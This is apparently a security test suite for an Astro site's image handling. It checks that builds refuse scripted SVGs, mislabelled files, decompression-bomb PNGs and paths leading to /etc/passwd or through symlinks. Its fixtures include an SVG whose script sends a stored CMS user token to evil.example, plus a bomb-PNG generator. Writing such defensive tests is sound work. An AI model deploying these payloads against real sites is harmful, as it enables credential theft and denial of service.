/**
 * Images from content: SVG is never published, an image must be what its
 * extension says, stay under the pixel cap and inside the content folder, and
 * every published image file is at most 2,400 px wide. The refusals are checked
 * through `npm run content:check` and a real `astro build`; the width cap on a
 * real build of a 6000x4000 photo made here with sharp.
 */
import fs from "node:fs";
import path from "node:path";
import zlib from "node:zlib";
import { imageSize } from "image-size";
import sharp from "sharp";
import { beforeAll, describe, expect, it } from "vitest";
import { publishedImageProblem } from "../../src/integrations/published-images.ts";
import { MAX_IMAGE_WIDTH } from "../../src/lib/image-limits.ts";
import { sniffImageType } from "../../src/lib/image-type.ts";
import { buildSite, distDir, FIXTURE_CONTENT, ROOT, TMP } from "../support/build.ts";
import { writeFileIn } from "../support/files.ts";
import { runCli } from "../cli/run.ts";

const SCRIPTED_SVG = `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch("//evil.example/" + localStorage.getItem("decap-cms-user"))</script></svg>\n`;

/**
 * A PNG whose header says `width` x `height` with one tiny compressed row: a few
 * dozen bytes that unpack to gigabytes (the decompression bomb the pixel cap is for).
 */
function pngHeader(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, "ascii"), data]);
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(zlib.crc32(body));
    return Buffer.concat([len, body, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([
    signature,
    chunk("IHDR", ihdr),
    chunk("IDAT", zlib.deflateSync(Buffer.alloc(1 + width * 3))),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

/** A fresh content folder with the fixture's settings and pages, no redirects, and `files`. */
function contentFolder(name: string, files: Record<string, string | Buffer>): string {
  const dir = path.join(TMP, "security", `images-${name}-${process.pid}`, "content");
  fs.rmSync(path.dirname(dir), { recursive: true, force: true });
  fs.cpSync(path.join(FIXTURE_CONTENT, "settings"), path.join(dir, "settings"), { recursive: true });
  fs.cpSync(path.join(FIXTURE_CONTENT, "pages"), path.join(dir, "pages"), { recursive: true });
  writeFileIn(dir, "settings/redirects.yaml", "redirects: []\n");
  for (const [rel, data] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    fs.writeFileSync(path.join(dir, rel), data);
  }
  return dir;
}

const post = (frontMatter: string, body: string) =>
  `---\ntitle: A post with pictures\ndescription: A post whose pictures the site must judge before publishing them.\ndate: 2020-01-01\ntags: [Images]\n${frontMatter}---\n\n${body}`;

describe("image files from content", () => {
  let hostile: string;
  let photo: Buffer;

  beforeAll(async () => {
    photo = await sharp({ create: { width: 64, height: 48, channels: 3, background: "#c96" } })
      .jpeg()
      .toBuffer();
    const png = await sharp({ create: { width: 64, height: 48, channels: 3, background: "#69c" } })
      .png()
      .toBuffer();
    hostile = contentFolder("hostile", {
      "posts/images/evil.svg": SCRIPTED_SVG,
      "posts/images/disguised.png": SCRIPTED_SVG,
      "posts/images/png-named.jpg": png,
      "posts/images/bomb.png": pngHeader(20000, 20000),
      "posts/images/bomb-named.webp": pngHeader(20000, 20000),
      "posts/images/fine.jpg": photo,
      "posts/svg-body.md": post("", "![A drawing](./images/evil.svg)\n"),
      "posts/svg-by-content.md": post("", "![A drawing](./images/disguised.png)\n"),
      "posts/svg-hero.md": post("image: ./images/evil.svg\nimageAlt: A drawing\n", "Words.\n"),
      "posts/svg-raw-html.md": post("", 'Before.\n\n<img src="./images/evil.svg" alt="A drawing">\n'),
      "posts/wrong-extension.md": post("", "![A photo](./images/png-named.jpg)\n"),
      "posts/bomb.md": post("", "Words.\n\n![A huge picture](./images/bomb.png)\n"),
      "posts/bomb-hero.md": post("image: ./images/bomb-named.webp\nimageAlt: A huge picture\n", "Words.\n"),
      "posts/escape.md": post("", "![Secrets](../../../../../../../../etc/passwd)\n"),
      "posts/escape-hero.md": post("image: ../../outside.jpg\nimageAlt: A photo\n", "Words.\n"),
      "posts/escape-absolute.md": post("image: /etc/hostname.jpg\nimageAlt: A photo\n", "![Secrets](file:///etc/passwd)\n"),
      "posts/symlink.md": post("", "![A photo](./images/link.jpg)\n"),
      "posts/fine.md": post("image: ./images/fine.jpg\nimageAlt: A photo\n", "![A photo](./images/fine.jpg)\n"),
    });
    const outside = path.join(path.dirname(hostile), "outside.jpg");
    fs.writeFileSync(outside, photo);
    fs.symlinkSync(outside, path.join(hostile, "posts/images/link.jpg"));
  });

  /** The error lines a run printed, with the content folder written as <content>. */
  const errorLines = (text: string, content: string) =>
    text
      .split("\n")
      .filter((l) => l.includes(": error: "))
      .map((l) => l.replaceAll(path.relative(ROOT, content), "<content>"));

  const EXPECTED = [
    /^<content>\/posts\/svg-body\.md:8: error: image "\.\/images\/evil\.svg" is an SVG file; SVG is never published/,
    /^<content>\/posts\/svg-by-content\.md:8: error: image "\.\/images\/disguised\.png" is an SVG file/,
    /^<content>\/posts\/svg-hero\.md:6: error: image: image "\.\/images\/evil\.svg" is an SVG file/,
    /^<content>\/posts\/svg-raw-html\.md:10: error: image "\.\/images\/evil\.svg" is an SVG file/,
    /^<content>\/posts\/wrong-extension\.md:8: error: image "\.\/images\/png-named\.jpg" is a PNG file named \.jpg/,
    /^<content>\/posts\/bomb\.md:10: error: image "\.\/images\/bomb\.png" is 20000x20000 pixels \(400 MP\), over the 50 MP limit/,
    /^<content>\/posts\/bomb-hero\.md:6: error: image: image "\.\/images\/bomb-named\.webp" is a PNG file named \.webp/,
    /^<content>\/posts\/escape\.md:8: error: image "\.\.\/\.\.\/\.\.\/\.\.\/\.\.\/\.\.\/\.\.\/\.\.\/etc\/passwd" leads outside the content folder/,
    /^<content>\/posts\/escape-hero\.md:6: error: image: image "\.\.\/\.\.\/outside\.jpg" leads outside the content folder/,
    /^<content>\/posts\/escape-absolute\.md:6: error: image: image "\/etc\/hostname\.jpg" leads outside the content folder/,
    /^<content>\/posts\/escape-absolute\.md:10: error: image "file:\/\/\/etc\/passwd" leads outside the content folder/,
    /^<content>\/posts\/symlink\.md:8: error: image "\.\/images\/link\.jpg" leads outside the content folder/,
  ];

  it("npm run content:check refuses each one, naming the file, line and why", async () => {
    const r = await runCli("content-check", ["--content", hostile], { env: { P2P_NOW: "2026-06-01T12:00:00Z" } });
    expect(r.code).toBe(1);
    const lines = errorLines(r.stdout, hostile);
    for (const pattern of EXPECTED)
      expect(
        lines.some((l) => pattern.test(l)),
        `${pattern}\n${lines.join("\n")}`,
      ).toBe(true);
    expect(lines.filter((l) => l.includes("posts/fine.md"))).toEqual([]);
  });

  it("the build refuses each one the same way, and publishes nothing", async () => {
    let log = "";
    try {
      await buildSite({ name: "security-images-hostile", content: hostile, env: { TZ: "UTC" } });
    } catch (err) {
      log = String((err as { log?: string }).log ?? err);
    }
    expect(log, "the build should have failed").toMatch(/The build stopped: \d+ content problems to fix first/);
    const lines = errorLines(log, hostile);
    for (const pattern of EXPECTED)
      expect(
        lines.some((l) => pattern.test(l)),
        `${pattern}\n${lines.join("\n")}`,
      ).toBe(true);
    expect(fs.existsSync(path.join(distDir("security-images-hostile"), "_astro"))).toBe(false);
  }, 300_000);

  it("the build's last check names a published SVG, a file under another format's name and one over the width cap", () => {
    const dir = path.join(TMP, "security", `published-${process.pid}`);
    fs.mkdirSync(dir, { recursive: true });
    const file = (name: string, data: string | Buffer) => (fs.writeFileSync(path.join(dir, name), data), path.join(dir, name));
    expect(publishedImageProblem(file("a.svg", SCRIPTED_SVG))).toMatch(/SVG/);
    expect(publishedImageProblem(file("a.js", SCRIPTED_SVG))).toMatch(/SVG/);
    expect(publishedImageProblem(file("a.webp", pngHeader(100, 100)))).toBe("is a PNG file under a .webp name");
    expect(publishedImageProblem(file("wide.png", pngHeader(MAX_IMAGE_WIDTH + 1, 10)))).toBe(
      `is ${MAX_IMAGE_WIDTH + 1} px wide, over the ${MAX_IMAGE_WIDTH} px limit`,
    );
    expect(publishedImageProblem(file("ok.png", pngHeader(MAX_IMAGE_WIDTH, 10)))).toBeUndefined();
    expect(publishedImageProblem(file("ok.jpg", photo))).toBeUndefined();
  });
});

describe("a 24-megapixel phone photo in a real build", () => {
  let dist: string;
  let html: string;

  beforeAll(async () => {
    // Noise, so the encoder cannot make it trivially small and every resize is real work.
    const big = await sharp({
      create: { width: 6000, height: 4000, channels: 3, background: "#808080", noise: { type: "gaussian", mean: 128, sigma: 30 } },
    })
      .jpeg({ quality: 70 })
      .toBuffer();
    const content = contentFolder("photo", {
      "posts/images/phone.jpg": big,
      "posts/images/drawing.svg": SCRIPTED_SVG,
      "posts/phone.md": post(
        "image: ./images/phone.jpg\nimageAlt: A treatment room\n",
        // A link to a content SVG is not an image: nothing publishes it.
        "![The same room](./images/phone.jpg)\n\nSee [the drawing](./images/drawing.svg).\n",
      ),
    });
    ({ dist } = await buildSite({ name: "security-images-photo", content, env: { TZ: "UTC" } }));
    html = fs.readFileSync(path.join(dist, "blog/phone/index.html"), "utf8");
  }, 300_000);

  /** Every file the page's <img> tags name (src and each srcset entry), as dist paths. */
  const pageImages = () => {
    const urls = [...html.matchAll(/<img\b[^>]*>/g)].flatMap(([tag]) => {
      const src = /\ssrc="([^"]+)"/.exec(tag)?.[1];
      const srcset = /\ssrcset="([^"]+)"/.exec(tag)?.[1] ?? "";
      return [src, ...srcset.split(",").map((s) => s.trim().split(/\s+/)[0])].filter((u): u is string => Boolean(u));
    });
    return [...new Set(urls)].filter((u) => u.startsWith("/_astro/"));
  };

  it("publishes every file of the hero and the body image, fallback src included, at most 2,400 px wide", () => {
    const files = pageImages();
    // The hero and the body picture, each with a fallback and a srcset.
    expect(files.length).toBeGreaterThan(4);
    expect(html).toMatch(/<img\b[^>]*\bwidth="2400"[^>]*\bheight="1600"/);
    for (const url of files) {
      const bytes = fs.readFileSync(path.join(dist, url));
      const { width } = imageSize(bytes);
      expect(width, url).toBeLessThanOrEqual(MAX_IMAGE_WIDTH);
      expect(sniffImageType(bytes), url).toBe(path.extname(url) === ".jpg" ? "jpeg" : path.extname(url).slice(1));
    }
    // The widest version is published, so the cap is what limited it.
    expect(Math.max(...files.map((u) => imageSize(fs.readFileSync(path.join(dist, u))).width))).toBe(MAX_IMAGE_WIDTH);
  });

  it("publishes no image file anywhere wider than 2,400 px, and no SVG but the site's own favicon", () => {
    const all = (fs.readdirSync(dist, { recursive: true }) as string[]).map((rel) => rel.split(path.sep).join("/"));
    expect(all.filter((rel) => /\.svgz?$/i.test(rel))).toEqual(["favicon.svg"]);
    for (const rel of all.filter((r) => /\.(jpe?g|png|webp|avif|gif)$/i.test(r))) {
      expect(imageSize(fs.readFileSync(path.join(dist, rel))).width, rel).toBeLessThanOrEqual(MAX_IMAGE_WIDTH);
    }
    for (const rel of all.filter((r) => fs.statSync(path.join(dist, r)).isFile() && !r.endsWith("favicon.svg"))) {
      const head = Buffer.alloc(1024);
      const fd = fs.openSync(path.join(dist, rel), "r");
      const n = fs.readSync(fd, head, 0, 1024, 0);
      fs.closeSync(fd);
      expect(sniffImageType(head.subarray(0, n)), rel).not.toBe("svg");
    }
  });
});
